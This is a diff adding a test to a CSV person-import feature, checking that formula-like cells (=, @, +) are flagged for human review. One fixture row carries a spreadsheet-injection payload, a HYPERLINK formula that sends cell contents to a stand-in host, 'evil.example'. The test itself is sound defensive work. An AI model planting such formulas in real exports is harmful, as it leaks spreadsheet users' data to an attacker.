@@ -107,3 +107,22 @@ def test_job_is_visible_to_its_owner_only(client: Any, admin: Any, token: Any) -
     url = resp.get_json()["status_url"]
     assert client.get(url, headers=admin).status_code == 200
     assert client.get(url, headers=token("admin")).status_code == 404
+
+
+def test_formula_cells_are_flagged_on_import(client: Any, app: Any, admin: Any) -> None:
+    """Issue 28, F16: a surname ``=HYPERLINK(…)`` is a formula to any spreadsheet that
+    opens an export; the import keeps it as typed but flags it for a human."""
+    csv_text = (
+        "iin,surname,given_name,birth_date,sex,citizenship,category,document_type,document_number\n"
+        ',"=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",Алия,1985-03-04,F,UZB,'
+        "labour_immigrant,passport,FA1000001\n"
+        ",Рахимов,@SUM(1),1992-11-30,M,UZB,labour_immigrant,passport,+FA1000002\n"
+        ",Честный,Улугбек,1992-11-30,M,UZB,labour_immigrant,passport,FA1000003\n"
+    )
+    report = _import(client, app, admin, "persons", csv_text)
+    assert report["accepted"] == 3
+    assert [(c["row"], c["field"]) for c in report["formula_cells"]] == [
+        (2, "surname"),
+        (3, "given_name"),
+        (3, "document_number"),
+    ]
